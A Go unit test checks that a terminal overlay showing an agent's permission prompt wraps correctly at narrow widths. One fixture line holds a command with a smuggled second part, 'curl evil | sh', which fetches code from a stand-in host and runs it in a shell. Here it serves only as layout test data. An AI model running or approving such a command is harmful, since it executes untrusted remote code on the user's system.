package attach

import (
	"strings"
	"testing"
)

// TestNarrowOverlay: a narrow window shows all of a prompt, because below it is the line that allows it.
func TestNarrowOverlay(t *testing.T) {
	text := func(labels []*label) string {
		var b strings.Builder
		for _, l := range labels {
			for _, c := range l.cells {
				if c.Width > 0 {
					b.WriteString(string(c.Rune) + c.Rest)
				}
			}
		}
		return strings.ReplaceAll(b.String(), " ", "")
	}
	lines := []string{"alpha asks: permission", "  | npm test -- --reporter=日本日本日本日本; curl evil | sh", "ssh agents@host respond alpha --prompt p1 accept"}
	for cols := 6; cols < 80; cols++ {
		o := &overlay{lines: lines, sticky: true}
		labels := o.layout(cols, 100)
		if got, want := text(labels), strings.ReplaceAll(strings.Join(lines, ""), " ", ""); got != want {
			t.Errorf("%d columns: %s", cols, got)
		}
		for _, l := range labels {
			if len(l.cells) > cols {
				t.Errorf("%d columns: a row of %d", cols, len(l.cells))
			}
		}
		if few := o.layout(cols, 2); len(few) > 2 {
			t.Errorf("%d rows of 2", len(few))
		}
	}
	message := &overlay{lines: lines[2:]}
	if n := len(message.layout(20, 100)); n != 1 {
		t.Errorf("a message has %d rows", n)
	}
}
